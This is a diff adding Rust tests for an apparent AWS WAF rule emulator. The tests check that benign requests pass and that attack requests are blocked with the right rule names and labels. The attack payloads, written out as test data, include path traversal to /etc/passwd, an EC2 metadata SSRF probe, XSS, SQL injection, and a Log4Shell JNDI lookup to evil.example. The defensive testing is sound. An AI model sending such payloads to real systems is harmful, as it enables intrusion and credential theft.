@@ -380,3 +380,125 @@ fn ip_ranges_merge_and_find_their_addresses() {
     }
     assert!(!Ranges::default().contains("10.0.0.1".parse().unwrap()));
 }
+
+fn managed(name: &str, priority: u32, extra: &str) -> String {
+    format!(
+        r#"{{"Name":"{name}","Priority":{priority},"Statement":{{"ManagedRuleGroupStatement":{{"VendorName":"AWS","Name":"{name}"{extra}}}}},"OverrideAction":{{"None":{{}}}},{v}}}"#,
+        v = vis(name)
+    )
+}
+
+fn browser(path: &'static str, query: &'static str) -> Req {
+    let mut r = get(path, query);
+    r.headers = vec![
+        ("Host", "shop.example.com"),
+        ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
+        ("Accept", "text/html,application/xhtml+xml"),
+        ("Cookie", "session=8f14e45fceea167a5a36dedd4bea2543; theme=dark"),
+    ];
+    r
+}
+
+#[test]
+fn aws_managed_groups_block_with_awss_rule_names_and_labels() {
+    let rules = format!(
+        "[{},{},{}]",
+        managed(
+            "AWSManagedRulesCommonRuleSet",
+            1,
+            r#","RuleActionOverrides":[{"Name":"SizeRestrictions_BODY","ActionToUse":{"Count":{}}}]"#
+        ),
+        managed("AWSManagedRulesSQLiRuleSet", 2, ""),
+        managed("AWSManagedRulesKnownBadInputsRuleSet", 3, "")
+    );
+    let acl = compiled(&rules);
+    let benign = [
+        browser("/", ""),
+        browser("/products/42", "color=blue&size=m"),
+        browser("/search", "q=O%27Reilly+books+%26+more"),
+        browser("/blog/2024/12/what-is-new", "utm_source=news&ref=home"),
+        browser("/api/orders", "since=2024-01-01T00:00:00Z&limit=50"),
+    ];
+    for r in &benign {
+        let v = decide(&acl, r);
+        assert_eq!(v.terminating_rule, "Default_Action", "{} {}: {v:?}", r.path, r.query);
+    }
+    let core = "awswaf:managed:aws:core-rule-set:";
+    let cases: [(Req, &str, String); 6] = [
+        (no_agent(browser("/", "")), "NoUserAgent_HEADER", format!("{core}NoUserAgent_Header")),
+        (
+            browser("/download", "file=..%2F..%2F..%2Fetc%2Fpasswd"),
+            "GenericLFI_QUERYARGUMENTS",
+            format!("{core}GenericLFI_QueryArguments"),
+        ),
+        (
+            browser("/fetch", "url=http://169.254.169.254/latest/meta-data/"),
+            "EC2MetaDataSSRF_QUERYARGUMENTS",
+            format!("{core}EC2MetaDataSSRF_QueryArguments"),
+        ),
+        (
+            browser("/comment", "text=%3Cscript%3Ealert(1)%3C/script%3E"),
+            "CrossSiteScripting_QUERYARGUMENTS",
+            format!("{core}CrossSiteScripting_QueryArguments"),
+        ),
+        (
+            browser("/item", "id=1%27%20OR%20%271%27%3D%271"),
+            "SQLi_QUERYARGUMENTS",
+            "awswaf:managed:aws:sql-database:SQLi_QueryArguments".to_owned(),
+        ),
+        (
+            with_header(browser("/", ""), "X-Api-Version", "${jndi:ldap://evil.example/a}"),
+            "Log4JRCE_HEADER",
+            "awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header".to_owned(),
+        ),
+    ];
+    for (r, rule, label) in &cases {
+        let v = decide(&acl, r);
+        assert!(blocked(&v), "{rule}: {v:?}");
+        assert_eq!(&v.terminating_rule, rule);
+        assert!(v.labels.contains(label), "{rule}: {:?}", v.labels);
+    }
+    // The override turns one rule into a count: a large body passes, counted and labelled.
+    let mut big = browser("/upload", "");
+    big.method = "POST";
+    big.body = vec![b'a'; 10_000];
+    let v = decide(&acl, &big);
+    assert_eq!(v.terminating_rule, "Default_Action", "{v:?}");
+    assert_eq!(v.counted, ["SizeRestrictions_BODY"]);
+}
+
+#[test]
+fn a_scope_down_statement_limits_what_a_managed_group_sees() {
+    let scope = format!(r#","ScopeDownStatement":{}"#, byte_match(r#"{"UriPath":{}}"#, "/api/", "STARTS_WITH", NONE));
+    let acl = compiled(&format!("[{}]", managed("AWSManagedRulesSQLiRuleSet", 1, &scope)));
+    assert!(blocked(&decide(&acl, &browser("/api/items", "id=1%27%20OR%20%271%27%3D%271"))));
+    assert!(!blocked(&decide(&acl, &browser("/web/items", "id=1%27%20OR%20%271%27%3D%271"))), "out of scope");
+}
+
+#[test]
+fn every_shipped_group_builds_and_costs_awss_published_wcus() {
+    for (name, wcus) in [
+        ("AWSManagedRulesCommonRuleSet", 700),
+        ("AWSManagedRulesSQLiRuleSet", 200),
+        ("AWSManagedRulesKnownBadInputsRuleSet", 200),
+        ("AWSManagedRulesAdminProtectionRuleSet", 100),
+    ] {
+        let group = crate::managed::managed_rule_group("AWS", name).unwrap_or_else(|| panic!("{name} builds"));
+        assert!(!group.rules.as_deref().unwrap().is_empty());
+        assert_eq!(group.capacity, wcus, "{name}");
+        let statement: shapes::Statement =
+            shape(&format!(r#"{{"ManagedRuleGroupStatement":{{"VendorName":"AWS","Name":"{name}"}}}}"#));
+        assert_eq!(crate::capacity::statement(&statement, &|_| None), wcus, "{name}");
+        assert!(compiled(&format!("[{}]", managed(name, 1, ""))).label_namespace().starts_with("awswaf:"));
+    }
+}
+
+fn with_header(mut r: Req, name: &'static str, value: &'static str) -> Req {
+    r.headers.push((name, value));
+    r
+}
+
+fn no_agent(mut r: Req) -> Req {
+    r.headers.retain(|(k, _)| !k.eq_ignore_ascii_case("user-agent"));
+    r
+}
